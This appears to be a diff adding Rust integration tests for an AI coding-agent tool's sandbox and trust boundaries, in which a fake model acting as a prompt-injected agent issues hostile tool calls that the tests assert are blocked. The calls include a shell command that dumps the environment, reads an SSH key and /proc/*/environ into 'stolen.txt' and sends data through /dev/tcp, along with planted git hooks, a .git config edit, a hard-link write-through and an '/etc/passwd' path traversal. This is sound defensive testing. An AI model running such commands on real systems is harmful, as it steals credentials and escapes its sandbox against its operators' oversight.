@@ -1,0 +1,236 @@
+//! Trust boundaries (DESIGN §12), tested by their real effects: a model acting as a confused or
+//! prompt-injected one would, against real git repositories and the real sandbox.
+
+use std::net::TcpListener;
+use std::path::Path;
+
+use serde_json::{Value, json};
+
+use crate::fake_llm::{FakeLlm, Reply, Rule};
+use crate::support::{Project, SECRET, all_files, git, phase, run};
+
+const OPENAI_MARK: &str = "sk-openai-5a5a5a-must-not-leak";
+const GITHUB_MARK: &str = "ghp_must_not_leak_1234";
+const SSH_MARK: &str = "PRIVATE-SSH-KEY-must-not-leak";
+
+fn implementer_only(url: &str, extra: &str) -> String {
+    "name: x\nphases:\n".to_owned()
+        + &phase(
+            "impl",
+            "implementer",
+            "implementer",
+            url,
+            ("implementer_prompt", "code_diff", "/complete"),
+            1,
+            extra,
+        )
+}
+
+/// The tool results the model got back in its second call.
+fn tool_results(server: &FakeLlm) -> Vec<String> {
+    server.calls("implementer")[1].body["messages"]
+        .as_array()
+        .expect("messages")
+        .iter()
+        .filter(|m| m["role"] == "tool")
+        .map(|m| m["content"].as_str().unwrap_or_default().to_owned())
+        .collect()
+}
+
+fn assert_nowhere(haystack: &str, what: &str) {
+    for mark in [OPENAI_MARK, GITHUB_MARK, SSH_MARK, SECRET] {
+        assert!(!haystack.contains(mark), "{what} holds a secret: {mark}");
+    }
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_hostile_implementer_reaches_no_secret_no_branch_and_nothing_outside() {
+    let outside = tempfile::tempdir().expect("outside");
+    let escaped = outside.path().join("escaped");
+    let fake_home = tempfile::tempdir().expect("home");
+    std::fs::create_dir_all(fake_home.path().join(".ssh")).expect("mkdir");
+    std::fs::write(fake_home.path().join(".ssh/id_x"), SSH_MARK).expect("key");
+    let listener = TcpListener::bind("127.0.0.1:0").expect("listener");
+    let port = listener.local_addr().expect("addr").port();
+    let p = Project::git(&[("a.txt", "a\n")]);
+    let user_git = p.path().join(".git");
+    let command = format!(
+        "env > env.txt; cat {home}/.ssh/id_x > stolen.txt 2>&1; cat /proc/*/environ >> stolen.txt 2>&1; \
+         touch {escaped}; cd / && touch {escaped}2; cd - >/dev/null; \
+         bash -c 'echo hi > /dev/tcp/127.0.0.1/{port}' 2> net.txt; echo \"net exit $?\" >> net.txt",
+        home = fake_home.path().display(),
+        escaped = escaped.display(),
+    );
+    let (server, _h) = FakeLlm::start(vec![
+        Rule::new(
+            "implementer",
+            Some(0),
+            Reply::tools(vec![
+                (
+                    "write_file",
+                    json!({"path": ".git", "content": format!("gitdir: {}\n", user_git.display())}),
+                ),
+                ("write_file", json!({"path": "a.txt", "content": "changed\n"})),
+                ("run_command", json!({"command": command})),
+            ]),
+        ),
+        Rule::new("implementer", Some(1), Reply::text("/complete")),
+    ])
+    .await;
+    let head_before = git(&p.path(), &["rev-parse", "main"]);
+    p.write("t.yaml", &implementer_only(&server.url(), ""));
+    let mut cmd = p.cmd();
+    cmd.env("HOME", fake_home.path())
+        .env("OPENAI_API_KEY", OPENAI_MARK)
+        .env("GITHUB_TOKEN", GITHUB_MARK)
+        .args(["run", "--task", "x", "--template", "t.yaml"]);
+    let out = run(cmd).await;
+    assert_eq!(out.code, 0, "{}\n{}", out.stdout, out.stderr);
+
+    // 1. The `.git` pointer was refused; the user's branch and index are untouched.
+    let results = tool_results(&server);
+    assert!(results[0].contains("off limits"), "{}", results[0]);
+    assert_eq!(git(&p.path(), &["rev-parse", "main"]), head_before);
+    assert_eq!(git(&p.path(), &["status", "--porcelain", "--untracked-files=no"]), "");
+    // The work landed on the execution's own branch.
+    let branch = p.state()["workspace"]["branch"]
+        .as_str()
+        .expect("branch")
+        .to_owned();
+    assert_eq!(git(&p.path(), &["show", &format!("{branch}:a.txt")]), "changed\n");
+
+    // 2. No key reached the command, hence not the model, the branch or the artifacts.
+    let env_txt = git(&p.path(), &["show", &format!("{branch}:env.txt")]);
+    assert!(env_txt.contains("PATH="), "{env_txt}");
+    assert_nowhere(&env_txt, "the command's environment");
+    let stolen = git(&p.path(), &["show", &format!("{branch}:stolen.txt")]);
+    assert_nowhere(&stolen, "stolen.txt");
+    for record in server.log() {
+        assert_nowhere(&record.body.to_string(), "a request to the model");
+    }
+    for (path, bytes) in all_files(&p.execution()) {
+        assert_nowhere(&String::from_utf8_lossy(&bytes), &path.display().to_string());
+    }
+
+    // 3. Nothing outside the worktree was written, and the network was closed.
+    assert!(!escaped.exists(), "wrote outside the worktree");
+    assert!(!Path::new(&format!("{}2", escaped.display())).exists());
+    listener.set_nonblocking(true).expect("nonblocking");
+    assert!(listener.accept().is_err(), "a TCP connection got through");
+    let net = git(&p.path(), &["show", &format!("{branch}:net.txt")]);
+    assert!(net.contains("net exit 1"), "{net}");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn in_place_the_repository_and_hard_links_are_safe() {
+    let outside = tempfile::tempdir().expect("outside");
+    let target = outside.path().join("target.txt");
+    std::fs::write(&target, "outside\n").expect("write");
+    let p = Project::git(&[("a.txt", "a\n")]);
+    std::fs::hard_link(&target, p.path().join("linked.txt")).expect("hard link");
+    let config_before = std::fs::read(p.path().join(".git/config")).expect("config");
+    let (server, _h) = FakeLlm::start(vec![
+        Rule::new(
+            "implementer",
+            Some(0),
+            Reply::tools(vec![
+                (
+                    "write_file",
+                    json!({"path": ".git/hooks/post-commit", "content": "#!/bin/sh\ntouch pwned\n"}),
+                ),
+                ("write_file", json!({"path": "linked.txt", "content": "model\n"})),
+                (
+                    "run_command",
+                    json!({"command": "echo '#!/bin/sh' > .git/hooks/pre-commit; echo '[x]' >> .git/config; cat .git/config"}),
+                ),
+            ]),
+        ),
+        Rule::new("implementer", Some(1), Reply::text("/complete")),
+    ])
+    .await;
+    let out = p
+        .run_template(&implementer_only(&server.url(), ""), &["--in-place"])
+        .await;
+    assert_eq!(out.code, 0, "{}\n{}", out.stdout, out.stderr);
+    let results = tool_results(&server);
+    assert!(results[0].contains("off limits"), "{}", results[0]);
+    assert!(!p.path().join(".git/hooks/post-commit").exists());
+    assert!(!p.path().join(".git/hooks/pre-commit").exists());
+    assert_eq!(
+        std::fs::read(p.path().join(".git/config")).expect("config"),
+        config_before
+    );
+    assert!(!results[2].contains("[core]"), "read .git/config: {}", results[2]);
+    // The link was replaced, not written through.
+    assert_eq!(std::fs::read_to_string(&target).expect("target"), "outside\n");
+    assert_eq!(
+        std::fs::read_to_string(p.path().join("linked.txt")).expect("linked"),
+        "model\n"
+    );
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_sandbox_the_kernel_cannot_build_fails_closed() {
+    let (server, _h) = FakeLlm::start(vec![
+        Rule::new(
+            "implementer",
+            Some(0),
+            Reply::tool("run_command", json!({"command": "touch ran.txt"})),
+        ),
+        Rule::new("implementer", None, Reply::text("/complete")),
+    ])
+    .await;
+    let p = Project::git(&[("a.txt", "a\n")]);
+    p.write("t.yaml", &implementer_only(&server.url(), ""));
+    let mut cmd = p.cmd();
+    // A helper that cannot set anything up stands for a kernel without namespaces/Landlock.
+    cmd.env("AUTOWRKERS_SANDBOX_HELPER", "/bin/false")
+        .args(["run", "--task", "x", "--template", "t.yaml"]);
+    let out = run(cmd).await;
+    assert_ne!(out.code, 0);
+    let state = p.state();
+    let error = state["phase_executions"][0]["error_message"]
+        .as_str()
+        .unwrap_or_default();
+    assert!(error.contains("--sandbox full-access"), "{state}");
+    assert!(server.calls("implementer").is_empty(), "no model call before the sandbox");
+
+    // With the explicit opt-in the same run completes.
+    let mut cmd = p.cmd();
+    cmd.env("AUTOWRKERS_SANDBOX_HELPER", "/bin/false").args([
+        "run",
+        "--task",
+        "x",
+        "--template",
+        "t.yaml",
+        "--sandbox",
+        "full-access",
+    ]);
+    let out = run(cmd).await;
+    assert_eq!(out.code, 0, "{}", out.stderr);
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn artifact_view_refuses_a_tampered_path() {
+    let (server, _h) = FakeLlm::start(vec![Rule::new(
+        "implementer",
+        None,
+        Reply::text("/complete"),
+    )])
+    .await;
+    let p = Project::git(&[("a.txt", "a\n")]);
+    let out = p.run_template(&implementer_only(&server.url(), ""), &[]).await;
+    assert_eq!(out.code, 0, "{}", out.stderr);
+    let state_path = p.execution().join("state.json");
+    let mut state: Value =
+        serde_json::from_str(&std::fs::read_to_string(&state_path).expect("state")).expect("json");
+    let id = state["id"].as_str().expect("id").to_owned();
+    state["artifacts"][0]["file_path"] = json!("../../../../../../../../etc/passwd");
+    std::fs::write(&state_path, state.to_string()).expect("tamper");
+    let mut cmd = p.cmd();
+    cmd.args(["workflow", "artifact", "view", &id[..8], "impl"]);
+    let out = run(cmd).await;
+    assert_ne!(out.code, 0);
+    assert!(!out.stdout.contains("root:"), "{}", out.stdout);
+    assert!(out.stderr.contains("artifacts/"), "{}", out.stderr);
+}
